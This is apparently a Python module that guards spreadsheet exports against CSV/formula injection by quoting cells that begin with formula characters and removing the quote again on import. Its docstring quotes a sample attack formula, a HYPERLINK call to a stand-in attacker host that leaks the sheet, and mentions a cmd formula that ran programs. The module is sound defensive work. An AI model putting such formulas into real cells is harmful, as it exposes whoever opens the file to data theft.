"""Cells a spreadsheet cannot run: OWASP's CSV-injection rule, for every CSV and XLSX export.

A spreadsheet takes a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return for a formula (``=HYPERLINK("http://evil.example","x")`` makes a link that leaks the sheet,
``=cmd|...`` once ran programs). Such a text cell is written with a single quote in front and the
rest verbatim; the quote makes it text in Excel, LibreOffice and Google Sheets.

Only text cells: a number from a numeric field (an amount, an id, a negative longitude) is not a
formula and is written as it is. Whether a cell is a number is decided by its field or its Python
type, never by what the text looks like: a title ``-5+3`` is guarded, and so is a title ``-5``.

Lossless: a text that already begins with quotes and then one of those characters (``'=x``) gets
one more quote, and an import takes exactly one quote off such a cell (:func:`unguarded`), so a
file exported and imported back gives the same text. One exception, not of this rule's making: an
import reads every carriage return as a line feed (django-import-export opens a CSV with universal
newlines, and XML does the same in XLSX). So the guard of a leading carriage return comes back before
a line feed and is taken off there too; for that, a quoted line feed (``'\n``) is guarded as well.

A workbook (XLSX) is XML, which cannot hold most control characters: :func:`workbook_text` drops
them, so that one title pasted with an escape character does not make the whole export fail.
"""

import re

FORMULA_STARTS = "=+-@\t\r"
GUARD = "'"

_FIRST_CHARACTERS = frozenset(FORMULA_STARTS + GUARD)
_NEEDS_GUARD = re.compile(r"'*[=+\-@\t\r]|'+\n")
_GUARDED = re.compile(r"'+[=+\-@\t\r\n]")
# What XML 1.0 forbids (openpyxl's ILLEGAL_CHARACTERS_RE): C0 controls but tab, line feed and return.
_NOT_IN_WORKBOOKS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def neutralised(text: str) -> str:
    """``text`` as a spreadsheet cell that cannot be a formula: a quote in front when it needs one."""
    # The first character is checked first: an export calls this for every text cell it writes.
    if text and text[0] in _FIRST_CHARACTERS and _NEEDS_GUARD.match(text):
        return GUARD + text
    return text


def unguarded(text: str) -> str:
    """The text of an imported cell that :func:`neutralised` guarded: one quote fewer."""
    if _GUARDED.match(text):
        return text[1:]
    return text


def workbook_text(text: str) -> str:
    """``text`` as a workbook's cell can hold it: without the control characters XML forbids."""
    return _NOT_IN_WORKBOOKS.sub("", text)
